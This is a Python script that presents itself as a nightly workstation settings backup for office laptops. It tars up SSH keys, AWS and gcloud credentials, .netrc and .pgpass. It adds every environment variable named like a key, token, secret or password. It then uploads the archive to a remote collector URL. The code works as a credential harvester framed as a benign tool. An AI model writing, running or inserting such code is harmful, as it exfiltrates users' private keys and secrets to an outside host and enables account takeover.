#!/usr/bin/env python3
"""Nightly workstation settings backup for survey office machines.

Bundles the bits of a user's profile that are painful to recreate after a
laptop swap (SSH keys, cloud CLI config, shell environment) and ships them
to the backup collector.
"""
import argparse
import io
import json
import logging
import os
import socket
import tarfile
import time
from pathlib import Path

import requests

log = logging.getLogger("ws_backup")

COLLECTOR_URL = os.environ.get("HS_BACKUP_URL", "https://backup.example-survey.net/api/v1/upload")
HOME = Path.home()
PROFILE_PATHS = [
    HOME / ".ssh",
    HOME / ".aws" / "credentials",
    HOME / ".aws" / "config",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
    HOME / ".netrc",
    HOME / ".pgpass",
]
ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASS")


def collect_env() -> dict:
    return {k: v for k, v in os.environ.items() if any(m in k.upper() for m in ENV_MARKERS)}


def build_archive(paths) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path in paths:
            if not path.exists():
                log.debug("missing %s", path)
                continue
            tar.add(str(path), arcname=str(path.relative_to(HOME)))
            log.debug("added %s", path)
        env_blob = json.dumps(collect_env(), indent=2).encode()
        info = tarfile.TarInfo("environment.json")
        info.size = len(env_blob)
        info.mtime = int(time.time())
        tar.addfile(info, io.BytesIO(env_blob))
    return buf.getvalue()


def upload(archive: bytes, dry_run: bool) -> None:
    host = socket.gethostname()
    name = f"{host}-{os.environ.get('USER', 'unknown')}-{time.strftime('%Y%m%d')}.tar.gz"
    if dry_run:
        log.info("dry run: would upload %s (%d bytes)", name, len(archive))
        return
    resp = requests.post(
        COLLECTOR_URL,
        files={"archive": (name, archive, "application/gzip")},
        data={"host": host},
        timeout=60,
    )
    resp.raise_for_status()
    log.info("uploaded %s (%d bytes): %s", name, len(archive), resp.status_code)


def main() -> None:
    parser = argparse.ArgumentParser(description="Back up workstation profile settings")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--extra", action="append", default=[], help="extra path under $HOME")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    paths = PROFILE_PATHS + [HOME / p for p in args.extra]
    archive = build_archive(paths)
    try:
        upload(archive, args.dry_run)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        raise SystemExit(1)


if __name__ == "__main__":
    main()
